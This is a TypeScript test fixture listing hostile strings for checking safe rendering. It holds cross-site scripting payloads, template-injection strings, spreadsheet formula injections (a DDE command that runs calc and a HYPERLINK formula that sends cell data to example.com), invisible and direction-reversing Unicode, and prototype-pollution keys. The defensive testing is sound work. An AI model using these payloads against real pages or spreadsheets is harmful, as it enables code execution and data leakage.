/** What has run as code, broken a file or hidden text elsewhere. None of it may here. */
export const markup: readonly string[] = [
  '<script>globalThis.hit = 1</script>',
  '</script><script>globalThis.hit = 1</script>',
  '<img src=x onerror="globalThis.hit = 1">',
  '<svg/onload=globalThis.hit=1>',
  '" autofocus onfocus="globalThis.hit = 1',
  "' onmouseover='globalThis.hit = 1",
  '</textarea><script>globalThis.hit = 1</script>',
  '</title></style></noscript><iframe srcdoc="<script>parent.hit = 1</script>">',
  '<a href="javascript:globalThis.hit=1">政府信息公开</a>',
  '<a href="data:text/html,<script>globalThis.hit = 1</script>">年报</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:globalThis.hit=1">',
  '<math><mtext></table><mglyph><style><!--</style><img title="--><img src=x onerror=hit()>">',
  '<!--<script>globalThis.hit = 1</script>-->',
  '<![CDATA[<script>globalThis.hit = 1</script>]]>',
  ']]><script>globalThis.hit = 1</script>',
  '&lt;script&gt;globalThis.hit = 1&lt;/script&gt;',
  '&#60;script&#62;globalThis.hit = 1&#60;/script&#62;',
  '{{constructor.constructor("globalThis.hit = 1")()}}${globalThis.hit = 1}',
  '<w:p><w:r><w:t>插入</w:t></w:r></w:p>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "e">]>&e;',
];

/** What a spreadsheet would compute or fetch, were it no text. */
export const formulas: readonly string[] = [
  '=HYPERLINK("http://example.com/?"&A1,"点击")',
  "=cmd|' /C calc'!A0",
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '＝1+1',
  '\t=1+1',
];

/** Separators some parsers take for the end of a line, and marks that turn text around. */
export const invisible: readonly string[] = [
  '一\u2028二\u2029三',
  '\u202E倒着写\u202C \u2066隔离\u2069 \u200F',
  '\uFEFF零宽\u200B字符\u00AD',
];

/** Names that reach the prototype of an object which is not careful. */
export const prototypeKeys: readonly string[] = ['__proto__', 'constructor', 'prototype'];

export const hostileStrings: readonly string[] = [
  ...markup,
  ...formulas,
  ...invisible,
  ...prototypeKeys,
];
